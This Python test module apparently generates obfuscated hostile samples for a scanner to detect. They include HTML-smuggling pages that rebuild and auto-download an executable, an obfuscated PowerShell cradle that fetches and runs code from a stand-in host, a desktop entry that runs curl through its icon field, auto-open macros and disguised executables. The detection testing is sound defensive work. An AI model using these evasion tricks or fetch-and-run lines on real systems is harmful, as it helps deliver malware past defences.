"""Hostile things written in pieces and in unusual dress: split words, coded layers, other encodings, other programs' ways of writing."""

from base64 import b64encode
from hashlib import sha256

from tests.samples import documents as make
from tests.samples.compound_files import compound_file, vba_streams
from tests.samples.files import elf, pe, zip_of
from tests.samples.hostile.cases import Case, Severity, single

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
HOST = "files.example.net"
PROGRAM = b64encode(pe()).decode()
ARCHIVE = b64encode(zip_of({"a.exe": pe() + b"".join(sha256(bytes([n])).digest() for n in range(40))})).decode()
GIVES = "var a=document.createElement('a');a.href=URL.createObjectURL(l);a.download='offer.exe';a.click();"


def cases() -> list[Case]:
    """Pages, scripts, documents, and names."""
    return [*_pages(), *_scripts(), *_documents(), *_names()]


def _pages() -> list[Case]:
    pieces = ",".join(f'"{ARCHIVE[at : at + 60]}"' for at in range(0, len(ARCHIVE), 60))
    changed = ",".join(str(byte ^ 9) for byte in pe())
    whole = f"var l=new Blob([atob('{PROGRAM}')]);{GIVES}"
    bodies = {
        "joined.html": f'var d=[{pieces}].join("");fetch("data:application/zip;base64,"+d).then(r=>r.blob()).then(l=>{{{GIVES}}})',
        "named.html": f'window["navi"+"gator"]["msSave"+"OrOpenBlob"](new window["Bl"+"ob"]([window["at"+"ob"]("{PROGRAM}")]),"a.exe")',
        "numbers.html": f"var l=new Blob([new Uint8Array([{changed}].map(x=>x^9))]);{GIVES}",
        "layer.html": f'eval(atob("{b64encode(whole.encode()).decode()}"))',
        "saved.xhtml": f"var l=new Blob([Uint8Array.from(atob('{ARCHIVE}'),c=>c.charCodeAt(0))]);saveAs(l,'a.zip')",
    }
    texts = {name: f"<!DOCTYPE html><html><body><script>{script}</script></body></html>".encode() for name, script in bodies.items()}
    texts["two-byte.html"] = f"<html><script>{whole}</script></html>".encode("utf-16")
    return [single("page that builds a file from pieces", name, body, "html.smuggling", least=HIGH) for name, body in texts.items()]


def _scripts() -> list[Case]:
    texts = {
        "plus.ps1": f"$o = New-Object ('Net.We'+'bClient')\n& ('i'+'ex') $o.('Down'+'loadString').Invoke('http://{HOST}/a')\n",
        "plus.js": 'var s = "WSc" + "ript.Sh" + "ell"; var f = this["Act" + "iveXObject"]; new f(s).Run("ver");\n',
        "plus.wsf": '<job><script language="JScript">var s="WScr"+"ipt.S"+"hell";</script></job>',
        "amp.vbs": 'Set s = CreateObject("Shell.Appl" & "ication")\r\ns.Open "E:"\r\n',
        "hat.cmd": "p^o^w^e^r^shell -c ver\r\n",
        "set.bat": "@echo off\r\nset a=power\r\nset b=shell\r\n%a%%b% -c ver\r\n",
        "letters.ps1": "&($pshome[4]+$pshome[30]+'x') 'Get-Date'\n",
        "turned.vbs": 'x = StrReverse("1 xoBgsM")\r\nExecuteGlobal x\r\n',
        "xor.vbs": 'For i = 1 To Len(a) Step 2\r\nb = b & Chr(CLng("&H" & Mid(a, i, 2)) Xor 7)\r\nNext\r\nExecute b\r\n',
        "signs.js": "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]" * 40,
        "printf.sh": "#!/bin/sh\neval $(printf '\\x65\\x63\\x68\\x6f\\x20\\x68\\x65\\x6c\\x6c\\x6f')\n",
    }
    return [single("script: telling words in pieces", name, text.encode(), "script.obfuscated", least=HIGH) for name, text in texts.items()]


def _documents() -> list[Case]:
    starts = "Private Sub Document_Open()\n  x = 1\nEnd Sub"
    project = b64encode(compound_file(vba_streams({"ThisDocument": starts}))).decode()
    flat = (
        "<?xml version='1.0'?><?mso-application progid='Word.Document'?><pkg:package xmlns:pkg='p'>"
        f"<pkg:part pkg:name='/word/vbaProject.bin'><pkg:binaryData>{project}</pkg:binaryData></pkg:part></pkg:package>"
    )
    basic = (
        "<?xml version='1.0'?><office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' xmlns:ooo='o'>"
        "<ooo:source-code>Sub Main\nShell(&quot;ver&quot;)\nEnd Sub</ooo:source-code></office:document>"
    )
    macro = "document: macro in a text form"
    bare = "{\\rtf1{\\object\\objemb{\\*\\objdata \\bin%d "
    native = make.ole1("Package", make.packaged("a.exe", pe()))
    return [
        single(macro, "letter.xml", flat.encode(), "office.macro-autoexec", least=HIGH),
        single(macro, "letter16.xml", flat.encode("utf-16"), "office.macro-autoexec", least=HIGH),
        single(macro, "letter.fodt", basic.encode(), "office.macro"),
        single("document: object as bare bytes", "a.rtf", (bare % len(native)).encode() + native + b"}}}", "office.embedded-object"),
    ]


def _names() -> list[Case]:
    shell = f"[Desktop Entry]\nType=Directory\nIcon[$e]=$(curl http://{HOST}/a)\n".encode()
    address = f"[{{000214A0-0000-0000-C000-000000000046}}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=file://{HOST}/s/a.exe\r\n".encode()
    moving = b'<svg xmlns="http://www.w3.org/2000/svg"><rect><set attributeName="onmouseover" to="x()"/></rect></svg>'
    return [
        single("desktop: command as an icon's name", ".directory", shell, "autorun.desktop-entry", least=HIGH),
        single("address file that begins with its properties", "Plan.url", address, "shortcut.remote", least=HIGH),
        single("drawing that gains a handler", "Plan.svg", moving, "svg.script", least=LOW),
        single("program named as a font", "Sans.ttf", elf(), "executable.disguised", least=HIGH),
        single("program named as settings", "desktop.ini", pe(), "executable.disguised", least=HIGH),
        single("disk image that passes for a document", "Offer.pdf.img", zip_of({"a": b"b"}), "name.double-extension"),
    ]
